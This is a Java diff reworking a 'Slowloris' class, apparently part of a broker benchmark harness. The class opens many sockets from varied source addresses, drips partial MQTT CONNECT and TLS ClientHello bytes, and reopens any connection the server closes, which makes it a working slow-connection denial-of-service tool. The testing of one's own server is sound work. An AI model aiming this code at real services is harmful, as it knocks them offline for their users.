@@ -4,52 +4,80 @@ import java.io.IOException;
 import java.io.UncheckedIOException;
 import java.net.InetSocketAddress;
 import java.nio.ByteBuffer;
+import java.nio.channels.SelectionKey;
+import java.nio.channels.Selector;
 import java.nio.channels.SocketChannel;
 import java.time.Duration;
+import java.util.ArrayDeque;
 import java.util.ArrayList;
 import java.util.List;
+import java.util.Queue;
 import java.util.concurrent.atomic.LongAdder;
-import java.util.concurrent.locks.LockSupport;
 import org.jspecify.annotations.Nullable;
+import org.slf4j.Logger;
+import org.slf4j.LoggerFactory;
 
-/// Sockets that send a byte now and then and never get to the end of their CONNECT, or of their TLS ClientHello. What the
-/// node closes is opened again at once, so that as many stand as were asked for. One thread of its own.
+/// Sockets that send a byte a second and never get to the end of their CONNECT, or of their TLS ClientHello. What the node
+/// closes is opened again at once, so that as many stand as were asked for. One thread of its own.
 public final class Slowloris implements AutoCloseable {
-  private static final Duration ROUND = Duration.ofMillis(250);
+  private static final Logger LOG = LoggerFactory.getLogger(Slowloris.class);
+  private static final Duration TURN = Duration.ofMillis(20);
+  private static final int TURNS_PER_BYTE = 50;
+
+  /// A listener's backlog is longer: a SYN that it drops is repeated only after a second.
+  private static final int OPENING_AT_ONCE = 200;
 
   /// The start of a handshake record that announces a ClientHello of 512 bytes; no more than its first bytes ever come.
   private static final byte[] HELLO = {0x16, 3, 1, 2, 4, 1, 0, 2, 0, 3, 3, 1, 2, 3, 4, 5, 6, 7, 8};
 
+  private final Selector selector;
   private final List<Held> sockets = new ArrayList<>();
   private final LongAdder opened = new LongAdder();
   private final Thread thread;
   private volatile boolean closed;
 
+  // Confined to the thread.
+  private final Queue<Held> toOpen = new ArrayDeque<>();
+  private final ByteBuffer answer = ByteBuffer.allocate(64);
+  private int opening;
+  private int next;
+
   private static final class Held {
+    final InetSocketAddress source;
     final InetSocketAddress node;
     final byte[] bytes;
     int sent;
+    boolean connected;
     @Nullable SocketChannel channel;
 
-    Held(InetSocketAddress node, byte[] bytes) {
+    Held(InetSocketAddress source, InetSocketAddress node, byte[] bytes) {
+      this.source = source;
       this.node = node;
       this.bytes = bytes;
     }
   }
 
-  private Slowloris() {
+  private Slowloris(Selector selector) {
+    this.selector = selector;
     thread = Thread.ofPlatform().name("slowloris").daemon(true).unstarted(this::run);
   }
 
   /// Half of them at the plain listener, half at that with TLS.
   public static Slowloris start(int count, InetSocketAddress mqtt, InetSocketAddress tls) {
-    Slowloris slow = new Slowloris();
-    byte[] connect = Wire.connect(5, "slowloris", "bench", "x".repeat(100));
-    for (int socket = 0; socket < count; socket++) {
-      slow.sockets.add(socket % 2 == 0 ? new Held(mqtt, connect) : new Held(tls, HELLO));
+    try {
+      Slowloris slow = new Slowloris(Selector.open());
+      byte[] connect = Wire.connect(5, "slowloris", "bench", "x".repeat(100));
+      for (int socket = 0; socket < count; socket++) {
+        InetSocketAddress source = Attack.source(socket);
+        slow.sockets.add(
+            socket % 2 == 0 ? new Held(source, mqtt, connect) : new Held(source, tls, HELLO));
+      }
+      slow.toOpen.addAll(slow.sockets);
+      slow.thread.start();
+      return slow;
+    } catch (IOException e) {
+      throw new UncheckedIOException("cannot open a selector", e);
     }
-    slow.thread.start();
-    return slow;
   }
 
   /// Connections made so far: what the node closed was made again.
@@ -58,41 +86,77 @@ public final class Slowloris implements AutoCloseable {
   }
 
   private void run() {
-    ByteBuffer answer = ByteBuffer.allocate(64);
-    while (!closed) {
-      long round = System.nanoTime();
-      for (Held held : sockets) {
-        if (closed) {
-          break;
+    try (selector) {
+      while (!closed) {
+        selector.select(this::handle, TURN.toMillis());
+        while (opening < OPENING_AT_ONCE && !toOpen.isEmpty()) {
+          open(toOpen.remove());
         }
-        turn(held, answer);
+        trickle();
       }
-      LockSupport.parkNanos(ROUND.toNanos() - (System.nanoTime() - round));
-    }
-    for (Held held : sockets) {
-      close(held);
+    } catch (IOException | RuntimeException e) {
+      LOG.error("event=slowloris_died", e);
+    } finally {
+      sockets.forEach(Slowloris::close);
     }
   }
 
-  private void turn(Held held, ByteBuffer answer) {
+  private void open(Held held) {
+    held.sent = 0;
+    held.connected = false;
+    opening++;
     try {
-      SocketChannel channel = held.channel;
-      if (channel == null) {
-        channel = SocketChannel.open();
-        held.channel = channel;
-        held.sent = 0;
-        channel.connect(held.node);
-        channel.configureBlocking(false);
+      SocketChannel channel = SocketChannel.open();
+      held.channel = channel;
+      channel.configureBlocking(false);
+      channel.register(selector, SelectionKey.OP_CONNECT, held);
+      channel.bind(held.source);
+      channel.connect(held.node);
+    } catch (IOException refused) {
+      again(held);
+    }
+  }
+
+  private void handle(SelectionKey key) {
+    Held held = (Held) key.attachment();
+    SocketChannel channel = (SocketChannel) key.channel();
+    try {
+      if (key.isConnectable() && channel.finishConnect()) {
+        held.connected = true;
+        opening--;
         opened.increment();
-      }
-      if (channel.read(answer.clear()) < 0) {
-        close(held);
-      } else if (held.sent < held.bytes.length - 1) {
-        held.sent += channel.write(ByteBuffer.wrap(held.bytes, held.sent, 1));
+        key.interestOps(SelectionKey.OP_READ);
+      } else if (key.isReadable() && channel.read(answer.clear()) < 0) {
+        again(held);
       }
     } catch (IOException gone) {
-      close(held);
+      again(held);
     }
+  }
+
+  /// The next fiftieth of the sockets sends a byte each.
+  private void trickle() {
+    int some = Math.ceilDiv(sockets.size(), TURNS_PER_BYTE);
+    for (int count = 0; count < some; count++) {
+      Held held = sockets.get(next);
+      next = (next + 1) % sockets.size();
+      SocketChannel channel = held.channel;
+      if (channel != null && held.connected && held.sent < held.bytes.length - 1) {
+        try {
+          held.sent += channel.write(ByteBuffer.wrap(held.bytes, held.sent, 1));
+        } catch (IOException gone) {
+          again(held);
+        }
+      }
+    }
+  }
+
+  private void again(Held held) {
+    if (!held.connected) {
+      opening--;
+    }
+    close(held);
+    toOpen.add(held);
   }
 
   private static void close(Held held) {
@@ -109,6 +173,7 @@ public final class Slowloris implements AutoCloseable {
   @Override
   public void close() {
     closed = true;
+    selector.wakeup();
     try {
       thread.join(Duration.ofSeconds(30));
     } catch (InterruptedException e) {
